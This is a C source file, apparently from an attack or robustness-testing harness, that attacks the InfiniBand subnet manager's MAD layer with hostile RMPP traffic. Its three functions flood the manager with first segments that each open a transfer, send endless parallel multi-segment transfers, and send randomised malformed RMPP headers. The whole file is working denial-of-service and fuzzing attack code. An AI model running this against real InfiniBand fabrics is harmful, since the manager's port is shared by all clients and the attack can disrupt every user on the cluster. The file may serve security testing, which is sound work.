/* RMPP as no honest client sends it: transfers that never end, and headers that contradict each
 * other. The receiver is the MAD layer at the port of the manager, which all its clients share. */
#include "attack/attacker.h"

#include <infiniband/umad.h>
#include <time.h>

static void make_segment(struct attacker *attacker, uint32_t tid, uint32_t segment)
{
    uint8_t *mad = umad_get_mad(attacker->out);
    make_query(attacker, METHOD_GET_MULTI, ATTRIBUTE_MULTI_PATH_RECORD, 0);
    wire_set(mad, RMPP_VERSION, RMPP_THIS_VERSION);
    wire_set(mad, RMPP_TYPE, RMPP_DATA);
    wire_set(mad, RMPP_FLAGS, RMPP_FLAG_ACTIVE | (segment == 1 ? RMPP_FLAG_FIRST : 0));
    wire_set(mad, RMPP_DATA1, segment);
    attacker->tid = tid - 1; /* send_query() increments it */
}

/* First segments only: each one opens a transfer at the receiver. */
void open_transfers(struct attacker *attacker)
{
    leave_rmpp(attacker);
    for (uint32_t tid = 1; goes_on(attacker); tid++) {
        make_segment(attacker, tid, 1);
        send_query(attacker, 0);
    }
}

/* Transfers in parallel, each as long as the receiver takes segments. */
void send_endless_transfer(struct attacker *attacker)
{
    enum { TRANSFERS = 32, BURST = 64 };
    leave_rmpp(attacker);
    for (uint32_t first = 1; goes_on(attacker); first += BURST) {
        for (uint32_t tid = 1; tid <= TRANSFERS; tid++)
            for (uint32_t segment = first; segment < first + BURST; segment++) {
                make_segment(attacker, tid, segment);
                send_query(attacker, 0);
            }
        nanosleep(&(struct timespec){.tv_nsec = 1000000}, NULL); /* for the acknowledgements */
    }
}

/* Random types, flags, versions, segment numbers, windows and lengths in few transactions. */
void send_malformed_segments(struct attacker *attacker)
{
    enum { TRANSACTIONS = 8 };
    static const unsigned methods[] = {METHOD_GET, METHOD_GET_MULTI, METHOD_GET_TABLE,
                                       METHOD_GET_TABLE_RESP, METHOD_GET_MULTI_RESP};
    static const uint32_t numbers[] = {0, 1, 2, 64, 65, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF};
    struct rng *rng = &attacker->rng;
    leave_rmpp(attacker);
    while (goes_on(attacker)) {
        uint8_t *mad = umad_get_mad(attacker->out);
        make_query(attacker, methods[rng_below(rng, sizeof methods / sizeof *methods)],
                   ATTRIBUTE_MULTI_PATH_RECORD, 0);
        wire_set(mad, RMPP_VERSION, rng_below(rng, 8) ? RMPP_THIS_VERSION : rng_below(rng, 256));
        wire_set(mad, RMPP_TYPE, rng_below(rng, 6));
        wire_set(mad, RMPP_FLAGS, rng_below(rng, 8));
        wire_set(mad, RMPP_STATUS, rng_below(rng, 4) ? 0 : rng_below(rng, 256));
        wire_set(mad, RMPP_DATA1, numbers[rng_below(rng, sizeof numbers / sizeof *numbers)]);
        wire_set(mad, RMPP_DATA2, numbers[rng_below(rng, sizeof numbers / sizeof *numbers)]);
        attacker->tid = (uint32_t)rng_below(rng, TRANSACTIONS);
        send_query(attacker, 0);
    }
}
